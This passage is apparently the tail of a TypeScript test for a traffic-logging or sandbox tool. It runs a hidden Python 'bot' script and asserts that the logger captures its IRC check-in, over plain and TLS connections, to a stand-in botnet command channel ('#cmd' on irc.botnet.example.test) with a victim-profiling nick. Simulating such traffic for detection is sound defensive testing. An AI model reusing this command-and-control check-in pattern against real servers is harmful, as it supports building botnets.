      const out = await new Promise<string>((resolve) => execFile('python3', ['-c', bot, mode], { timeout: 20_000 }, (e, stdout, stderr) => resolve(e ? `${stderr}${e.message}` : stdout)));
      assert.equal(out, 'ok\n', mode);
    }
    const s = log.log().sessions;
    const irc = { nick: '[x86|US]a1b2', user: 'a1b2', realname: 'Linux x86_64', channels: [{ name: '#cmd', key: 'k3y' }], messages: [{ command: 'PRIVMSG', target: '#cmd', text: 'ready' }], lines: 5 };
    assert.deepEqual(s.map((x) => [x.protocol, x.irc]), [['irc', irc], ['tls', irc]]);
    assert.equal(s[1]?.sni, 'irc.botnet.example.test');
    assert.match(s[0]?.preview ?? '', /^NICK \[x86\|US\]a1b2\\r\\nUSER /);
  } finally {
    server.close();
    rmSync(dir, { recursive: true, force: true });
  }
});
